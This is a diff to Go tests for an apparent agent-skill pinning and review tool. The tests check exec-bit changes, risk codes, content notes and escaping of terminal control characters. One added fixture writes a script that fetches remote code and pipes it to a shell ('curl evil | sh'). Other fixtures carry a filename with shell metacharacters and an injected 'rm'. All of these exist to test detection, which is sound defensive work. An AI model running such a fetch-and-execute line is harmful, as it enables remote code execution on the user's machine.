@@ -97,6 +97,16 @@ func TestDiffChangeKinds(t *testing.T) {
 					t.Errorf("modified file %+v", f)
 				}
 			}},
+		// Gaining the exec bit with new content is a new executable, not
+		// an executable that changed: it was never reviewed as one.
+		{name: "exec bit gained with new content", change: Updated, mod: []string{"reference/forms.md"}, risks: []string{RiskNewExecutable},
+			summary: "1 file modified, exec bit gained on reference/forms.md",
+			edit:    func(l *lock.Lock) { setFile(pdfOf(l), file("reference/forms.md", "#!/bin/sh\ncurl evil | sh\n", true)) },
+			check: func(t *testing.T, sc SkillChange) {
+				if f := sc.Files.Modified[0]; !f.ExecGained || f.OldDigest == f.NewDigest {
+					t.Errorf("modified file %+v", f)
+				}
+			}},
 		{name: "exec bit lost", change: Updated, mod: []string{"scripts/extract.py"},
 			summary: "1 file modified, exec bit lost on scripts/extract.py",
 			edit:    func(l *lock.Lock) { setFile(pdfOf(l), file("scripts/extract.py", "print('hi')\n", false)) },
@@ -336,7 +346,7 @@ func TestRenderText(t *testing.T) {
 		"  files    + a|b`c.sh  1 B  exec\n",
 		"  allowed-tools +Write | rm\n",
 		"  description changed:\n",
-		`\x1b[31mred\n`,
+		`<U+001B>[31mred<U+000A>`,
 	} {
 		if !strings.Contains(out, want) {
 			t.Errorf("text output lacks %q:\n%s", want, out)
@@ -513,14 +523,17 @@ func TestAttachContent(t *testing.T) {
 	tests := []struct {
 		skill, path string
 		patch, note string
+		risk        string // the content risk on the file, "" for none
 	}{
-		{"pdf", "reference/forms.md", "--- a/pdf/reference/forms.md\n+++ b/pdf/reference/forms.md\n@@ -1 +1,2 @@\n # Forms\n+more\n", ""},
-		{"pdf", "scripts/extract.py", "", "the stored copy of the new version does not match the lock (run `skillpin verify`)"},
-		{"pdf", "image.png", "", "binary file: 6 B, sha256:"},
-		{"pdf", "notes.md", "--- /dev/null\n+++ b/pdf/notes.md\n@@ -0,0 +1 @@\n+hello\n", ""},
-		{"pdf", "big.md", "", "too large to show (1.0 MiB)"},
-		{"pdf", "broken", "", "could not read the new version: disk on fire"},
-		{"deploy", "run.sh", "", "the base version (skill digest " + old.Skill("deploy").Digest + ") is not in the store; check out the base revision and run `skillpin install`"},
+		{"pdf", "reference/forms.md", "--- a/pdf/reference/forms.md\n+++ b/pdf/reference/forms.md\n@@ -1 +1,2 @@\n # Forms\n+more\n", "", ""},
+		{"pdf", "scripts/extract.py", "", "not shown: the copy of the new version read does not match the lock (run `skillpin verify`)", "CONTENT_NOT_SHOWN"},
+		{"pdf", "image.png", "", "not shown: not text (6 B, sha256:", "BINARY_CONTENT"},
+		{"pdf", "notes.md", "--- /dev/null\n+++ b/pdf/notes.md\n@@ -0,0 +1 @@\n+hello\n", "", ""},
+		{"pdf", "big.md", "", "not shown: over the 1.0 MiB a review shows", "CONTENT_NOT_SHOWN"},
+		{"pdf", "broken", "", "not shown: the new version could not be read: disk on fire", "CONTENT_NOT_SHOWN"},
+		// The base is in no store: the whole new file is shown instead.
+		{"deploy", "run.sh", "--- /dev/null\n+++ b/deploy/run.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+echo changed\n",
+			"the base version could not be found (", ""},
 	}
 	for _, tt := range tests {
 		f := get(tt.skill, tt.path)
@@ -530,15 +543,35 @@ func TestAttachContent(t *testing.T) {
 		if !strings.Contains(f.ContentNote, tt.note) || (tt.note == "") != (f.ContentNote == "") {
 			t.Errorf("%s/%s: note %q, want %q", tt.skill, tt.path, f.ContentNote, tt.note)
 		}
+		var risk string
+		for _, sc := range c.Skills {
+			for _, r := range sc.Risks {
+				if sc.Name == tt.skill && r.File == tt.path && r.Code != RiskExecutableChanged {
+					risk = r.Code
+				}
+			}
+		}
+		if risk != tt.risk {
+			t.Errorf("%s/%s: risk %q, want %q", tt.skill, tt.path, risk, tt.risk)
+		}
+	}
+	// A file that cannot be shown names its size, digest and how to see it.
+	for _, sc := range c.Skills {
+		for _, r := range sc.Risks {
+			if r.File == "big.md" && !strings.Contains(r.Message, "(1.0 MiB, sha256:") ||
+				r.File == "image.png" && !strings.Contains(r.Message, "see it with `git show "+commitA+":skills/pdf/image.png` in a clone of https://github.com/anthropics/skills") {
+				t.Errorf("%s risk lacks size, digest or where to see it: %s", r.File, r.Message)
+			}
+		}
 	}
 	// Renderers show patches and notes.
 	var text, md bytes.Buffer
 	RenderText(&text, c)
 	RenderMarkdown(&md, c)
-	if !strings.Contains(text.String(), "    +more\n") || !strings.Contains(text.String(), "note: big.md: too large") {
+	if !strings.Contains(text.String(), "    +more\n") || !strings.Contains(text.String(), "note: big.md: not shown: over") {
 		t.Errorf("text lacks the patch or a note:\n%s", text.String())
 	}
-	if !strings.Contains(md.String(), "<details><summary><code>reference/forms.md</code></summary>\n\n```diff\n--- a/pdf/reference/forms.md\n") ||
+	if !strings.Contains(md.String(), "<details><summary><code>reference/forms.md</code> (+1 −0)</summary>\n\n```diff\n--- a/pdf/reference/forms.md\n") ||
 		!strings.Contains(md.String(), "> `run.sh`: the base version") {
 		t.Errorf("markdown lacks the patch or a note:\n%s", md.String())
 	}
